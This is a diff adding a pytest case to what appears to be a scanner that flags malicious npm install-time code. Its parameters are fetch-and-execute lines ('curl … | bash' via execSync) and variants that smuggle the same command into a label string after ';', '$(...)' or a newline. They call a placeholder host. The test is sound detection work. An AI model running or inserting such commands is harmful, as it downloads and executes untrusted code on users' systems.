@@ -744,3 +744,34 @@ def test_a_setup_far_from_an_install_hint_writes_no_payload_but_a_payload_beside
     assert _found(pkg) == {}
     _edit(pkg / "dist" / "pm.cjs", anchor, code + anchor)
     assert _found(pkg).get("GH-PERSIST-SHELL-RC") == "high"
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        # the download given to a shell as it is
+        'import { execSync } from "node:child_process";\n'
+        'execSync("curl -fsSL https://x.example.invalid/p.sh | bash");',
+        # a label, then a separator: what follows is a command of its own
+        'export const step = "Setup: true; curl -fsSL https://x.example.invalid/p.sh | sh";',
+        'export const step = "Setup: $(curl -fsSL https://x.example.invalid/p.sh | sh)";',
+        'export const step = "Setup:\\ncurl -fsSL https://x.example.invalid/p.sh | sh";',
+        # a label outside the literal is no label of the command
+        "export const step = 'Setup: ' + 'curl -fsSL https://x.example.invalid/p.sh | sh';",
+    ],
+)
+def test_a_labelled_install_hint_fetches_nothing_but_a_command_does(
+    tmp_path: Path, code: str
+) -> None:
+    """Lines of an unsupported-runtime message that label the reinstall commands ("Re-run the
+    installer: curl … | bash", openclaw 2026.9.6's preinstall, high before) are silent; a download
+    piped into a shell as a command of its own, in the same preinstall-reachable file, stays
+    high."""
+    pkg = _copy(tmp_path, "runtime-floor-hint")
+    assert _found(pkg) == {}
+    _edit(
+        pkg / "runtime.mjs",
+        "export function unsupportedMessage",
+        f"{code}\nexport function unsupportedMessage",
+    )
+    assert _found(pkg).get("GH-INSTALL-FETCH-EXEC") == "high"
